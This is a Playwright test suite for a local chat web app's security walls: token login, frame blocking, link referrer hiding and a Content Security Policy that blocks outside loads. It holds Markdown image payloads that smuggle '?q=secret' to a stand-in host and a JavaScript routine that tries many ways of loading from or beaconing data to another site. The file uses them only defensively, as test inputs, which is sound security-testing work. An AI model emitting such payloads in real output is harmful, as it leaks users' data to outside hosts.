"""The walls in a real browser: the owner's first page, the token's page, and that nothing is loaded from elsewhere."""

import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.chat.chat_page import READY, import_file, message, wait_for_end, write_export
from tests.support.accounts import STRANGER, running_relay
from tests.support.browser import open_page, running_app, send
from tests.support.scripted_server import Reply, Server, running_scripted_server
from tests.support.serving import wait_until

# Answers in which a Markdown parser other than the chat's own finds a picture. ADDRESS/n.png?q=secret is its address.
HIDDEN_PICTURES = (
    "Here it is:\n\n```markdown\n# Tool\n```python\nprint(1)\n```\n\n![logo](ADDRESS/a.png?q=secret)\n",
    "> ```\n![logo](ADDRESS/b.png?q=secret)\n",
    "Look:\n    ```\n![logo](ADDRESS/c.png?q=secret)\n",
    "``` `\n![logo](ADDRESS/d.png?q=secret)\n",
    "So \\( a$ ![logo](ADDRESS/e.png?q=secret) \\) holds.",
    "So \\[ a $$ ![logo](ADDRESS/f.png?q=secret) \\] holds.",
    "# One `\n![logo](ADDRESS/g.png?q=secret)\n# Two `\n",
)
# What a page can use to load something, if text of a model became part of it.
LOADERS = """address => {
    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
    add("img", { src: address + "/img" });
    add("img", { srcset: address + "/srcset 1x" });
    add("link", { rel: "stylesheet", href: address + "/css" });
    add("link", { rel: "preload", as: "image", href: address + "/preload" });
    add("link", { rel: "icon", href: address + "/icon" });
    add("script", { src: address + "/script" });
    add("iframe", { src: address + "/frame" });
    add("object", { data: address + "/object" });
    add("embed", { src: address + "/embed" });
    add("video", { src: address + "/video", poster: address + "/poster", autoplay: true });
    add("audio", { src: address + "/audio", autoplay: true });
    add("div", { style: `background: url(${address}/background)`, textContent: "x" });
    add("style", { textContent: `@font-face { font-family: f; src: url(${address}/font) } body { font-family: f }` });
    add("style", { textContent: `@import url(${address}/import);` });
    const form = Object.assign(document.createElement("form"), { action: address + "/form", method: "post" });
    document.body.append(form);
    form.submit();
    try { fetch(address + "/fetch", { mode: "no-cors" }).catch(() => 0); } catch {}
    try { navigator.sendBeacon(address + "/beacon", "secret"); } catch {}
    try { new WebSocket(address.replace("http", "ws") + "/socket"); } catch {}
    try { new EventSource(address + "/events"); } catch {}
    try { new Worker(address + "/worker"); } catch {}
    try { import(address + "/module").catch(() => 0); } catch {}
}"""


BLOCKED = (
    *("connect-src", "font-src", "form-action", "frame-src", "img-src", "media-src", "object-src"),
    *("script-src-elem", "style-src-elem"),
)


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, str, Path]]:
    home = tmp_path_factory.mktemp("walls")
    with (
        running_scripted_server(home) as (server, config),
        running_app("client_app.py", config, home / "client.log") as url,
    ):
        yield server, url, home


class Listener:
    """Another site: notes the first line of each request."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.requests: list[str] = []
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            with connection:
                connection.settimeout(5)
                try:
                    line = connection.recv(1000).split(b"\r\n")[0].decode(errors="replace")
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nContent-Type: text/html\r\n\r\n")
                except OSError as error:
                    line = f"a connection without a request: {error}"
                self.requests.append(line)

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def is_foreign(url: str, own: str) -> bool:
    return not url.startswith((own, own.replace("http", "ws"), "data:", "blob:"))


def test_owner_gets_a_working_page_at_the_bare_address(browser: Browser, chat: tuple[Server, str, Path]) -> None:
    server, url, _ = chat
    server.reset()
    page = open_page(browser, url)
    expect(page.get_by_text(READY)).to_be_visible()
    send(page, "What is the closest star?")
    assert wait_for_end(page, 2) == "It is Proxima Centauri."
    assert page.context.cookies() == [] or not [c for c in page.context.cookies() if "llama2" in str(c.get("name"))]
    page.context.close()


def test_another_account_is_asked_for_the_token_and_then_has_a_working_page(
    browser: Browser, chat: tuple[Server, str, Path]
) -> None:
    server, url, home = chat
    server.reset()
    port = int(url.rpartition(":")[2])
    token = (home / "access_tokens" / f"port_{port}.txt").read_text().strip().partition("token=")[2]
    with running_relay(STRANGER, port) as relay:
        page = open_page(browser, f"http://localhost:{relay}/")
        expect(page.get_by_role("heading", name="This app needs its token")).to_be_visible()
        page.get_by_label("Token").fill("guessed")
        page.get_by_role("button", name="Open").click()
        expect(page.get_by_role("alert")).to_have_text("That is not the token.")
        page.get_by_label("Token").fill(token)
        page.get_by_label("Token").press("Enter")
        expect(page.get_by_text(READY)).to_be_visible()
        assert "token" not in page.url
        send(page, "What is the closest star?")
        assert wait_for_end(page, 2) == "It is Proxima Centauri."
        page.reload()
        expect(page.get_by_text(READY)).to_be_visible()
        page.go_back()
        assert "token=" not in page.url
        page.context.close()


def test_printed_address_opens_the_app_and_leaves_no_token_in_the_address_bar(
    browser: Browser, chat: tuple[Server, str, Path]
) -> None:
    _, _, home = chat
    (line,) = [line for line in (home / "client.log").read_text().splitlines() if "token=" in line]
    page = open_page(browser, line.rpartition(" ")[2] + "&max_tokens=16")
    expect(page.get_by_text(READY)).to_be_visible()
    expect(page).to_have_url(re.compile(r"/\?max_tokens=16$"))
    page.context.close()


def test_pictures_that_slip_through_load_nothing(
    browser: Browser, chat: tuple[Server, str, Path], listener: Listener, tmp_path: Path
) -> None:
    server, url, _ = chat
    server.reset()
    page = open_page(browser, url)
    expect(page.get_by_text(READY)).to_be_visible()
    answers = [answer.replace("ADDRESS", listener.address) for answer in HIDDEN_PICTURES]
    import_file(page, write_export(tmp_path / "pictures.json", [("Show it.", answer) for answer in answers]))
    expect(message(page, 2 * len(answers))).to_be_visible()
    page.reload()
    expect(message(page, 2 * len(answers))).to_be_visible()
    server.replies.append(Reply("".join(f"{answer}\n\n" for answer in answers)))
    send(page, "Again, please.")
    wait_for_end(page, 2 * len(answers) + 2)
    page.wait_for_load_state("networkidle")
    assert listener.requests == []
    page.context.close()


def test_nothing_in_a_page_can_load_from_another_host(
    browser: Browser, chat: tuple[Server, str, Path], listener: Listener
) -> None:
    page = open_page(browser, chat[1])
    expect(page.get_by_text(READY)).to_be_visible()
    page.evaluate(
        """window.blocked = [];
        document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective))"""
    )
    page.evaluate(LOADERS, listener.address)
    page.wait_for_timeout(2000)  # for a load that is not blocked
    assert listener.requests == []
    assert set(BLOCKED) - set(page.evaluate("blocked")) == set()
    page.context.close()


def test_site_cannot_show_the_app_in_a_frame(
    browser: Browser, chat: tuple[Server, str, Path], listener: Listener
) -> None:
    page = open_page(browser, listener.address)
    page.set_content(f'<iframe src="{chat[1]}"></iframe>')
    page.wait_for_timeout(1000)
    frame = page.frames[1]
    assert frame.get_by_text(READY).count() == 0
    assert frame.url.startswith("chrome-error:") or frame.get_by_role("heading").inner_text() == "Not from here"
    page.context.close()


def test_links_in_answers_tell_the_other_site_nothing(
    browser: Browser, chat: tuple[Server, str, Path], listener: Listener, tmp_path: Path
) -> None:
    page = open_page(browser, chat[1])
    expect(page.get_by_text(READY)).to_be_visible()
    import_file(page, write_export(tmp_path / "link.json", [("A link.", f"See [this]({listener.address}/page).")]))
    link = message(page, 2).get_by_role("link", name="this")
    expect(link).to_have_attribute("target", "_blank")
    assert set(str(link.get_attribute("rel")).split()) == {"noopener", "noreferrer"}
    page.context.close()


@pytest.mark.parametrize("script", ["client_app.py", "torchserve_server_app.py"])
def test_ordinary_pages_are_not_hindered(browser: Browser, script: str, tmp_path: Path) -> None:
    """No load is blocked, and none goes to another host: charts, formulas, code, copying, files, tables, streaming."""
    answer = "$e^{i\\pi}$ and\n\n```python\nprint(1)\n```\n\n| a |\n|---|\n| 1 |\n\n:smile: \U0001f999"
    with (
        running_scripted_server(tmp_path) as (server, config),
        running_app(script, config, tmp_path / "app.log") as url,
    ):
        page = open_page(browser, "about:blank")
        found: list[str] = []
        page.on("console", lambda line: found.append(line.text) if "Content Security" in line.text else None)
        page.on("request", lambda request: found.append(request.url) if is_foreign(request.url, url) else None)
        page.goto(url)
        if script == "client_app.py":
            expect(page.get_by_text(READY)).to_be_visible()
            import_file(page, write_export(tmp_path / "a.json", [("Show all.", answer)]))
            expect(message(page, 2).locator("math").first).to_be_visible()
            page.context.grant_permissions(["clipboard-read", "clipboard-write"])
            message(page, 2).get_by_role("button", name="Copy the code").click()
            wait_until(lambda: page.evaluate("navigator.clipboard.readText()") == "print(1)\n", what="the copied code")
            server.replies.append(Reply(answer))
            send(page, "Again, please.")
            wait_for_end(page, 4)
            for part in ("math", "pre code", "table"):
                expect(message(page, 4).locator(part).first).to_be_visible()
        else:
            for panel in ("Metrics", "Experiments", "Autoscaler", "Logs", "Connect", "Status"):
                page.get_by_role("tab", name=panel).click()
                page.wait_for_timeout(700)
        page.wait_for_load_state("networkidle")
        assert found == []
        page.context.close()
